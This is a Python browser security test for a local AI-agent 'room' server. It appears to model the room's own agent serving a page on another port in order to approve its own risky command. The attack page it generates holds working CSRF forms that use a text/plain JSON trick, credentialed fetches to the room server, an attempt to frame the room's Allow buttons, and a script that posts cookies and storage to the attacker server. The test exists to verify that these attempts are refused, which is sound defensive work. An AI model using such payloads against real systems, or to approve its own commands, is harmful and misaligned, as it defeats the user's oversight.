"""A page of another origin against the room, in a real browser (Debian's chromium through Playwright): what a
room's agent gets by starting a server of its own on another port of 127.0.0.1 and having the user open it in
the same browser, in the very tab the room was open in, while a risky command waits for the user's answer.

The attacker's page tries what a browser lets any page do: read the token, post a line (a `no-cors` fetch with
a text/plain body, and forms), answer the pending question by its id, make a JSON call, and frame the room's
page with its Allow buttons. None of it may work, and the room must go on as if nothing happened.
"""
from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse

import httpx
import pytest

from tests.serving import ROOT, start_server
from tests.test_serve_browser import open_new_room, watch_csp

pytestmark = pytest.mark.browser

WAIT = 30.0  # seconds for anything the browser does, under load


class Attacker:
    """The agent's own little web server on another port: it serves the attack page and keeps every request
    it gets (so a token or a cookie reaching it would show)."""

    def __init__(self, page: str):
        self.requests: list[dict] = []
        self.reports: list[dict] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def _keep(self, body: bytes) -> None:
                attacker.requests.append({"method": self.command, "path": self.path,
                                          "headers": dict(self.headers.items()), "body": body.decode("latin-1")})

            def do_GET(self):  # noqa: N802
                self._keep(b"")
                data = page.encode() if self.path.split("?")[0] == "/" else b""
                self.send_response(200 if data else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self._keep(body)
                if self.path == "/report":
                    attacker.reports.append(json.loads(body))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def attack_page(target: str, room: str, question: str) -> str:
    """Everything a page of another origin may try. `target` is the room server, `question` the id of the
    pending question (the worst case: the agent knows both)."""
    t, r, q = json.dumps(target), json.dumps(room), json.dumps(question)
    line = f"{target}/rooms/{room}/lines"
    answers = f"{target}/rooms/{room}/answers"
    # A text/plain form whose one field spells JSON: `{"text": "...", "x": "="}` is what the browser sends.
    return f"""<!doctype html><html><body>
<form id="form-line" method="POST" action="{line}" enctype="text/plain" target="sink1">
  <input name='{{"text": "posted by the attacker form", "x": "' value='"}}'></form>
<form id="form-answer" method="POST" action="{answers}" enctype="text/plain" target="sink2">
  <input name='{{"request_id": "{question}", "answer": "run", "x": "' value='"}}'></form>
<form id="form-answer-plain" method="POST" action="{answers}" target="sink3">
  <input name="request_id" value="{question}"><input name="answer" value="run"></form>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe><iframe name="sink3"></iframe>
<iframe id="framed" src="{target}/rooms/{room}" width="800" height="400"></iframe>
<script>
(async () => {{
  const T = {t}, R = {r}, Q = {q};
  const out = {{ cookie: document.cookie, session: JSON.stringify(sessionStorage),
                local: JSON.stringify(localStorage), href: location.href }};
  const nocors = (path, body) => fetch(T + path, {{ method: "POST", mode: "no-cors", credentials: "include",
    headers: {{ "Content-Type": "text/plain" }}, body }}).then((x) => x.type, (e) => "error: " + e);
  out.line = await nocors(`/rooms/${{R}}/lines`, JSON.stringify({{ text: "posted by the attacker's fetch" }}));
  out.answer = await nocors(`/rooms/${{R}}/answers`, JSON.stringify({{ request_id: Q, answer: "run" }}));
  out.json = await fetch(T + `/rooms/${{R}}/answers`, {{ method: "POST", credentials: "include",
    headers: {{ "Content-Type": "application/json" }}, body: JSON.stringify({{ request_id: Q, answer: "run" }}) }})
    .then((x) => x.status, (e) => "error: " + e);
  out.rooms = await fetch(T + "/rooms", {{ credentials: "include" }}).then((x) => x.text(), (e) => "error: " + e);
  out.page = await fetch(T + `/rooms/${{R}}`, {{ credentials: "include" }}).then((x) => x.text(), (e) => "error: " + e);
  for (const id of ["form-line", "form-answer", "form-answer-plain"]) document.getElementById(id).submit();
  try {{ out.frame = document.getElementById("framed").contentWindow.document.body.innerHTML; }}
  catch (e) {{ out.frame = "error: " + e.name; }}
  await fetch("/report", {{ method: "POST", body: JSON.stringify(out) }});
  window.done = out;
}})();
</script></body></html>"""


def until(page, test, what: str, timeout: float = WAIT) -> None:
    """Wait for `test()` while Playwright delivers the page's events (no fixed sleep)."""
    deadline = timeout * 1000
    while not test():
        if deadline <= 0:
            raise AssertionError(f"timed out waiting for {what}")
        page.wait_for_timeout(50)
        deadline -= 50


def count(server, room: str) -> int:
    """The messages stored in `room`, as the room list says."""
    rooms = httpx.get(f"{server.base}/rooms", headers=server.auth).json()
    return next(r["messages"] for r in rooms if r["id"] == room)


def test_a_page_on_another_port_gets_nothing_of_the_room(browser, tmp_path):  # noqa: F811
    server = start_server(tmp_path, "--scripted", str(ROOT / "scenarios" / "risky-confirmed.yaml"),
                          "--workspace", str(tmp_path / "ws"))
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    attacker = None
    try:
        # The user opens the room and asks for something risky: the question waits for an answer.
        page = context.new_page()
        page.set_default_timeout(WAIT * 1000)
        refused_own = watch_csp(page)
        page.goto(server.url)
        open_new_room(page, "attacked")
        room = urlparse(page.url).path.rsplit("/", 1)[1]
        page.fill("#line", "Clean up the data folder.")
        page.press("#line", "Enter")
        page.wait_for_selector(".question")
        state = httpx.get(f"{server.base}/rooms/{room}/state", headers=server.auth).json()
        [question] = state["asking"]
        messages = count(server, room)
        assert context.cookies() == []  # nothing that a browser would send on its own, to any origin
        assert refused_own == [], "the room's own pages broke their Content-Security-Policy"

        # Then, in the same tab, the page the agent's server serves.
        attacker = Attacker(attack_page(server.base, room, question))
        posts: list = []  # the attack's posts to the room server, and which of them the browser is done with
        ended: list = []
        statuses: list[int] = []
        said: list[str] = []

        def sent(request) -> None:
            if request.method == "POST" and request.url.startswith(server.base):
                posts.append(request)

        def answered(response) -> None:
            if response.request in posts:
                statuses.append(response.status)

        page.on("request", sent)
        page.on("response", answered)
        page.on("requestfinished", lambda r: ended.append(r) if r in posts else None)
        page.on("requestfailed", lambda r: ended.append(r) if r in posts else None)
        page.on("console", lambda m: said.append(m.text))
        page.goto(attacker.url)
        until(page, lambda: attacker.reports, "the attack page's report")
        # Two no-cors fetches, one JSON fetch (stopped at its preflight), three forms.
        until(page, lambda: len(posts) == 6 and all(r in ended for r in posts), "the attack's posts answered")
        until(page, lambda: any("frame-ancestors" in s for s in said), "the browser refusing to frame the room")
        report = attacker.reports[0]

        # It could not read the token, nor anything of the room.
        assert report["cookie"] == "" and report["session"] == "{}" and report["local"] == "{}"
        assert report["rooms"].startswith("error") and report["page"].startswith("error")  # no CORS for it
        assert report["frame"].startswith("error")
        for request in attacker.requests:
            assert "cookie" not in {k.lower() for k in request["headers"]}, request
            assert server.token not in json.dumps(request), request
            assert "authorization" not in {k.lower() for k in request["headers"]}
        # It could not write: what it posted was refused by the server (its Origin says where it is from):
        # the fetches' answers are seen here, the forms' only in what the browser said of them, as they are not
        # shown in a frame either.
        assert sorted(urlparse(r.url).path for r in posts) == sorted(
            [f"/rooms/{room}/lines"] * 2 + [f"/rooms/{room}/answers"] * 4)
        assert statuses and set(statuses) == {403}, statuses
        until(page, lambda: sum("the server responded with a status of 403" in s for s in said) >= 3,
              "the browser saying the forms were refused (403)")
        assert report["line"].startswith("error") and report["answer"].startswith("error")  # nothing to read
        assert report["json"].startswith("error")

        # It could not frame the room's page: the browser refused it (frame-ancestors 'none').
        framed = page.query_selector("#framed").content_frame()
        assert framed is not None and framed.query_selector("#stop") is None
        assert framed.query_selector(".question") is None

        # The room is as it was: no new line, the question still open, nothing run.
        state = httpx.get(f"{server.base}/rooms/{room}/state", headers=server.auth).json()
        assert state["asking"] == [question]
        assert count(server, room) == messages
        assert (tmp_path / "ws" / "data" / "old.csv").exists()

        # Back on the room's page (same tab: its token is still kept there, for that origin only), the user's
        # own answer works.
        mark = len(refused_own)  # the attacker's page got its refusals; the room's page must get none
        page.goto(f"{server.base}/rooms/{room}")
        page.wait_for_selector("#link:text('live')")
        page.wait_for_selector(".question")
        page.click(".question .answer-deny")
        page.wait_for_selector(".msg.kind-notice:has-text(\"answered 'deny'\")")
        assert (tmp_path / "ws" / "data" / "old.csv").exists()
        assert refused_own[mark:] == [], "the room's own pages broke their Content-Security-Policy"
    finally:
        context.close()
        if attacker is not None:
            attacker.close()
        assert server.stop() == 0, (tmp_path / "serve.err").read_text()
